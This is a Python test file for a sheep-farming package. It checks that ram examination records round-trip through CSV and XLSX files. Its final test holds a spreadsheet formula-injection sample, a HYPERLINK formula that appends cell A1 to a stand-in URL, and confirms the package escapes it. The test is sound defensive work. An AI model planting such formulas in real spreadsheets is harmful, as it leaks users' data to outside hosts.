"""Examinations written as a table and read back as the same examinations."""

from datetime import date
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from stell.core.intake import IntakeRow, ReadingRules
from stell.core.protocol.load import load_shipped, shipped
from stell.core.records import CIRCUMSTANCES, INTENDED_USES, RAM_TYPES, Born, Examination, Ram
from stell.core.verdict import Outcome
from stell.exchange import examination_table
from stell.exchange.columns import match_columns
from stell.exchange.electronic_id import LARGEST_NATIONAL
from stell.exchange.examination_table import fields_for, most_readings, values_of
from stell.exchange.reading import read_sheet
from stell.exchange.tables_out import write_csv, write_xlsx

RULES = ReadingRules(today=date(2026, 11, 25))
BIRTHS = st.one_of(
    st.none(),
    st.dates(date(2018, 1, 1), date(2025, 12, 31)).map(Born.on),
    st.builds(Born.in_month, st.integers(2018, 2025), st.integers(1, 12)),
    st.builds(Born.in_year, st.integers(2018, 2025)),
    st.tuples(st.dates(date(2018, 1, 1), date(2025, 1, 1)), st.integers(1, 300)).map(
        lambda pair: Born(pair[0], date.fromordinal(pair[0].toordinal() + pair[1]))
    ),
)
DAYS = st.dates(date(2026, 1, 1), date(2026, 11, 25))
TEXTS = st.text("abc =+-@'\"ü;,\n½", max_size=12).map(str.strip)
NAMES = TEXTS.map(lambda text: " ".join(text.split()))  # a name is one line


def test_examples_in_docstrings() -> None:
    import doctest

    assert doctest.testmod(examination_table).failed == 0


def observations(protocol) -> st.SearchStrategy:
    """Return strategies for what may be found under a protocol."""
    possible = {}
    for check in protocol.checks.values():
        if check.unit is not None:
            readings = st.lists(st.integers(*check.plausible), min_size=1, max_size=3)
            possible[check.id] = readings.map(tuple)
        elif check.spec.several:
            others = [o for o in check.rules if o != check.normal]
            several = st.lists(st.sampled_from(others), min_size=1, max_size=3, unique=True)
            possible[check.id] = several.map(tuple) | st.just((check.normal,))
        else:
            possible[check.id] = st.sampled_from(list(check.rules))
    return st.fixed_dictionaries({}, optional=possible)


@st.composite
def examinations(draw, protocol) -> list[IntakeRow]:
    """Return rows of different rams."""
    rows = []
    for number in range(draw(st.integers(1, 4))):
        on = draw(DAYS)
        born = draw(BIRTHS)
        by_class = "" if born else draw(st.sampled_from(["", *protocol.age_classes]))
        override = draw(st.none() | st.sampled_from(list(Outcome)))
        ram = Ram(
            ram_id="",
            tag=f"R{number}",
            name=draw(NAMES),
            eid=draw(st.sampled_from(["", f"826{number:012d}", f"036{LARGEST_NATIONAL - number}"])),
            breed=draw(st.sampled_from(["", "texel", "bluefaced_leicester"])),
            ram_type=draw(st.sampled_from(["", *RAM_TYPES])),
            born=born,
            age_class=by_class,
            age_class_on=on if by_class else None,
            intended_use=draw(st.sampled_from(["", *INTENDED_USES])),
        )
        exam = Examination(
            exam_id="",
            ram_id="",
            examined_on=on,
            observations=draw(observations(protocol)),
            examiner=draw(NAMES),
            note=draw(TEXTS),
            remarks={k: v for k in draw(st.sets(st.sampled_from(list(protocol.checks)), max_size=2))
                     if (v := draw(TEXTS))},
            circumstances=tuple(
                draw(st.lists(st.sampled_from(CIRCUMSTANCES), max_size=2, unique=True))
            ),
        )  # fmt: skip
        reason = draw(TEXTS) or "seen to serve" if override else ""
        rows.append(IntakeRow(number + 2, ram, exam, draw(NAMES), override, reason))
    return rows


def written_and_read(rows: list[IntakeRow], protocol, path: Path):
    remarks = sorted({check_id for row in rows for check_id in row.exam.remarks})
    fields = fields_for(protocol, readings=most_readings(rows), remarks=remarks)
    values = [values_of(row, protocol) for row in rows]
    if path.suffix == ".csv":
        write_csv(path, fields, values)
    else:
        write_xlsx(path, {"Examinations": (fields, values)})
    return read_sheet(path, protocol, RULES)


@settings(max_examples=40, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data(), ending=st.sampled_from(["csv", "xlsx"]))
def test_examinations_come_back_from_csv_and_xlsx(tmp_path, protocol, data, ending: str) -> None:
    rows = data.draw(examinations(protocol))
    reading = written_and_read(rows, protocol, tmp_path / f"out.{ending}")
    assert not reading.problems, [str(p) for p in reading.problems]
    assert list(reading.rows) == rows


@settings(max_examples=8, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_examinations_under_the_house_protocol_come_back(tmp_path, data) -> None:
    protocol = load_shipped("house")
    rows = data.draw(examinations(protocol))
    reading = written_and_read(rows, protocol, tmp_path / "out.csv")
    assert not reading.problems, [str(p) for p in reading.problems]
    assert list(reading.rows) == rows


@pytest.mark.parametrize("name", shipped())
def test_every_column_that_is_written_is_understood(name: str) -> None:
    protocol = load_shipped(name)
    readings = {c.id: 3 for c in protocol.checks.values() if c.is_measure}
    fields = fields_for(protocol, readings=readings, remarks=protocol.checks)
    found = match_columns([f.name for f in fields], protocol)
    assert not found.notices
    assert all(c.meaning for c in found.columns)
    for column in found.columns:
        check = protocol.checks.get(column.meaning)
        if check and check.unit and column.unit:
            assert column.unit == check.unit.name


def test_units_stand_in_the_titles_of_columns() -> None:
    names = [f.name for f in fields_for(load_shipped("house"))]
    assert "circumference_cm" in names
    assert "temperature_celsius" in names
    assert "condition_score" in names


def test_a_sheet_full_of_formulas_is_text_on_the_way_in_and_harmless_on_the_way_out(
    read, protocol, tmp_path: Path
) -> None:
    formula = '=HYPERLINK("http://example.org?"&A1;"see here")'
    quoted = '"' + formula.replace('"', '""') + '"'
    reading = read(f"tag,date,note,SC\n@R1,2026-10-04,{quoted},34\n=2+2,2026-10-04,-1,=17*2\n")
    (row,) = reading.rows
    assert (row.ram.tag, row.exam.note) == ("@R1", formula)
    assert "Scrotal circumference is a number" in str(reading.problems[0])
    write_csv(tmp_path / "out.csv", fields_for(protocol), [values_of(row, protocol)])
    written = (tmp_path / "out.csv").read_text()
    assert "'@R1" in written
    assert "'=HYPERLINK" in written
    assert read(written).rows[0].exam.note == formula
